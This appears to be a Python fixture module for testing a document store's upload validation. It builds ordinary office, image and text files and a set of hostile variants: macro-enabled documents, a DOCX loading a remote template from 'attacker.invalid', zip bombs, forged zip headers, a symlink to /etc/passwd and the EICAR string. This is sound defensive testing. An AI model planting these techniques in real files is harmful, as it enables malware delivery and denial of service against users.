"""Real, small files of every kind the document store meets, generated in code."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def pdf() -> bytes:
    """A one-page PDF with a correct cross-reference table."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R >>",
    ]
    stream = b"BT /F1 12 Tf 20 100 Td (Chronology) Tj ET"
    objects.append(b"<< /Length %d >>\nstream\n%s\nendstream" % (len(stream), stream))
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, body))
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref))
    return out.getvalue()


def docx(text: str = "Individual management review") -> bytes:
    import docx as python_docx

    document = python_docx.Document()
    document.add_paragraph(text)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def xlsx() -> bytes:
    import openpyxl

    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(["Date", "Agency", "Contact"])
    sheet.append(["2024-01-05", "Police", "Call-out"])
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


_ODF_MANIFEST = """<?xml version="1.0" encoding="UTF-8"?>
<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2">
 <manifest:file-entry manifest:full-path="/" manifest:media-type="{mimetype}"/>
 <manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>
</manifest:manifest>
"""
_ODT_CONTENT = """<?xml version="1.0" encoding="UTF-8"?>
<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"
 xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2">
 <office:body><office:text><text:p>Panel minutes</text:p></office:text></office:body>
</office:document-content>
"""
_ODS_CONTENT = """<?xml version="1.0" encoding="UTF-8"?>
<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"
 xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"
 xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2">
 <office:body><office:spreadsheet><table:table table:name="Sheet1"><table:table-row>
 <table:table-cell><text:p>Action</text:p></table:table-cell></table:table-row></table:table>
 </office:spreadsheet></office:body>
</office:document-content>
"""
ODT_MIMETYPE = "application/vnd.oasis.opendocument.text"
ODS_MIMETYPE = "application/vnd.oasis.opendocument.spreadsheet"


def odf(mimetype: str, extra: dict[str, bytes] | None = None) -> bytes:
    """An OpenDocument package as LibreOffice writes it: ``mimetype`` first and stored."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(zipfile.ZipInfo("mimetype"), mimetype, compress_type=zipfile.ZIP_STORED)
        content = _ODT_CONTENT if mimetype == ODT_MIMETYPE else _ODS_CONTENT
        archive.writestr("content.xml", content)
        archive.writestr("META-INF/manifest.xml", _ODF_MANIFEST.format(mimetype=mimetype))
        for name, data in (extra or {}).items():
            archive.writestr(name, data)
    return out.getvalue()


def odt(**kwargs) -> bytes:
    return odf(ODT_MIMETYPE, **kwargs)


def ods(**kwargs) -> bytes:
    return odf(ODS_MIMETYPE, **kwargs)


def csv_utf8() -> bytes:
    return "date,agency,note\r\n2024-01-05,Police,Zoë’s call\r\n".encode()


def csv_windows_1252() -> bytes:
    # What Excel's "CSV (Comma delimited)" writes on a UK machine.
    return "date,cost\r\n2024-01-05,£20\r\n".encode("cp1252")


def txt() -> bytes:
    return "Notes from the panel meeting – next one on Tuesday.\n".encode()


def png() -> bytes:
    """A 2x2 RGB PNG built by hand (signature, IHDR, IDAT, IEND with CRCs)."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    raw = b"".join(b"\x00" + b"\xff\x00\x00" * 2 for _ in range(2))
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", 2, 2, 8, 2, 0, 0, 0))
        + chunk(b"IDAT", zlib.compress(raw))
        + chunk(b"IEND", b"")
    )


def jpeg() -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (4, 4), (0, 120, 200)).save(out, "JPEG")
    return out.getvalue()


ALLOWED = {
    "chronology.pdf": (pdf, "application/pdf"),
    "imr.docx": (docx, "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
    "actions.xlsx": (xlsx, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
    "minutes.odt": (odt, "application/vnd.oasis.opendocument.text"),
    "tracker.ods": (ods, "application/vnd.oasis.opendocument.spreadsheet"),
    "contacts.csv": (csv_utf8, "text/csv"),
    "excel-export.csv": (csv_windows_1252, "text/csv"),
    "notes.txt": (txt, "text/plain"),
    "genogram.png": (png, "image/png"),
    "photo.jpg": (jpeg, "image/jpeg"),
    "photo.JPEG": (jpeg, "image/jpeg"),
}


# ---------------------------------------------------------------- hostile variations


def rezip(data: bytes, *, drop=(), replace: dict[str, bytes] | None = None, add=None) -> bytes:
    """Copy a zip, dropping, replacing or adding entries (``add``: list of (ZipInfo|name, bytes))."""
    replace = replace or {}
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            if info.filename in drop:
                continue
            target.writestr(info, replace.get(info.filename, source.read(info)))
        for name, payload in add or ():
            target.writestr(name, payload)
    return out.getvalue()


def docm() -> bytes:
    """A macro-enabled Word document: docm main part and a VBA project."""
    original = docx()
    with zipfile.ZipFile(io.BytesIO(original)) as archive:
        types = archive.read("[Content_Types].xml").decode()
    types = types.replace(
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        "application/vnd.ms-word.document.macroEnabled.main+xml",
    ).replace("</Types>", '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>')
    return rezip(
        original,
        replace={"[Content_Types].xml": types.encode()},
        add=[("word/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504)],
    )


def xlsm() -> bytes:
    """A macro-enabled workbook with its content types only (no vbaProject.bin)."""
    original = xlsx()
    with zipfile.ZipFile(io.BytesIO(original)) as archive:
        types = archive.read("[Content_Types].xml").decode()
    types = types.replace(
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
    )
    return rezip(original, replace={"[Content_Types].xml": types.encode()})


def docx_with_hidden_vba() -> bytes:
    """Ordinary docx content types, but a VBA project tucked in: still refused."""
    return rezip(docx(), add=[("word/vbaProject.bin", b"\xd0\xcf\x11\xe0" + b"\x00" * 100)])


def docx_remote_template() -> bytes:
    """A docx that fetches a template (and its macros) from elsewhere when opened."""
    rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        'attachedTemplate" Target="http://attacker.invalid/t.dotm" TargetMode="External"/></Relationships>'
    )
    return rezip(docx(), add=[("word/_rels/settings.xml.rels", rels.encode())])


def odt_with_basic_macro() -> bytes:
    return odt(extra={"Basic/Standard/Module1.xml": b"<script:module/>"})


def plain_zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("report.pdf", pdf())
    return out.getvalue()


def xlsx_bomb(expand_to: int) -> bytes:
    """An xlsx with an extra sheet of ``expand_to`` zero bytes (compresses ~1000:1)."""
    out = io.BytesIO(xlsx())
    with (
        zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED, compresslevel=9) as archive,
        archive.open("xl/worksheets/sheet2.xml", "w", force_zip64=True) as entry,
    ):
        block = b"\x00" * (1024 * 1024)
        for _ in range(expand_to // len(block)):
            entry.write(block)
        entry.write(b"\x00" * (expand_to % len(block)))
    return out.getvalue()


def xlsx_many_entries(count: int) -> bytes:
    return rezip(xlsx(), add=[(f"xl/media/image{n}.png", b"x") for n in range(count)])


def _patch_central_directory(data: bytes, name: str, *, file_size: int | None = None, flag_bits=None) -> bytes:
    """Rewrite fields of ``name``'s central directory record (and the flag in its local header)."""
    buffer = bytearray(data)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        info = archive.getinfo(name)
    encoded = info.filename.encode()
    position = 0
    while True:
        position = buffer.find(b"PK\x01\x02", position)
        name_length = struct.unpack_from("<H", buffer, position + 28)[0]
        if bytes(buffer[position + 46 : position + 46 + name_length]) == encoded:
            break
        position += 4
    if file_size is not None:
        struct.pack_into("<I", buffer, position + 24, file_size)
    if flag_bits is not None:
        struct.pack_into("<H", buffer, position + 8, flag_bits)
        struct.pack_into("<H", buffer, info.header_offset + 6, flag_bits)
    return bytes(buffer)


def docx_declaring_huge_entry() -> bytes:
    """A docx whose directory claims one entry expands to 4 GB (a bomb by its own account)."""
    return _patch_central_directory(docx(), "word/document.xml", file_size=0xFFFFFFF0)


def docx_understating_entry() -> bytes:
    """A docx whose directory claims an entry is 10 bytes when it is much larger."""
    return _patch_central_directory(docx("x" * 50_000), "word/document.xml", file_size=10)


def docx_encrypted_entry() -> bytes:
    return _patch_central_directory(docx(), "word/document.xml", flag_bits=0x1)


def docx_with_entry(info: zipfile.ZipInfo | str, payload: bytes = b"data") -> bytes:
    return rezip(docx(), add=[(info, payload)])


def symlink_entry(name: str = "word/link", target: bytes = b"/etc/passwd") -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(name)
    info.external_attr = (0o120777 << 16) | 0
    info.create_system = 3
    return info


def docx_with_eicar() -> bytes:
    return rezip(docx(), add=[("word/media/notes.txt", EICAR)])


def elf() -> bytes:
    return b"\x7fELF\x02\x01\x01" + bytes(57) + b"\x00" * 64


def windows_exe() -> bytes:
    header = bytearray(b"MZ" + bytes(62))
    struct.pack_into("<I", header, 60, 64)
    return bytes(header) + b"PE\x00\x00" + bytes(200)


def gzip_file() -> bytes:
    import gzip

    return gzip.compress(b"date,agency\n")


def tar_file() -> bytes:
    import tarfile

    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        payload = b"hello"
        info = tarfile.TarInfo("notes.txt")
        info.size = len(payload)
        archive.addfile(info, io.BytesIO(payload))
    return out.getvalue()


def ole2() -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
